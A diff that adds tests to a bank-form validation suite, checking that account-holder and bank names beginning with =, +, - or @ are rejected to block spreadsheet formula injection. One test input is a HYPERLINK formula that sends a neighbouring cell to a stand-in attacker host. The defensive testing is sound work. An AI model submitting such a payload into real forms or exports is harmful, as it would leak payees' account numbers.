@@ -133,6 +133,26 @@ describe("the bank form", () => {
     },
   );
 
+  // The names go into the payout batch file an admin opens in a spreadsheet: one that starts with
+  // =, +, - or @ would run there as a formula (it could send other rows' account numbers away).
+  test.each(['=HYPERLINK("https://evil.example/?"&B2,"Asha Rao")', "+91 Asha", "-Asha", "@SUM(A1)", "1 Asha"])(
+    "refuses the holder name and bank name %s: they start with a letter",
+    (name) => {
+      expect(errorsOf(parse(bankAccountSchema, { ...BANK, holderName: name, bankName: name }))).toEqual({
+        holderName: "Start the name with a letter, as your bank shows it",
+        bankName: "Start the name with a letter, as your bank shows it",
+      });
+      expect(errorsOf(parse(upiAccountSchema, { holderName: name, upiId: "asha@okhdfc" }))).toEqual({
+        holderName: "Start the name with a letter, as your bank shows it",
+      });
+    },
+  );
+
+  test("a name in Devanagari, or with digits and signs after its first letter, is a name", () => {
+    const submission = parse(bankAccountSchema, { ...BANK, holderName: "आशा राव", bankName: "M/s Bank-2 & Co." });
+    expect(submission.status).toBe("success");
+  });
+
   test("every missing field has its own message", () => {
     expect(errorsOf(parse(bankAccountSchema, {}))).toEqual({
       holderName: "Enter the account holder's name",
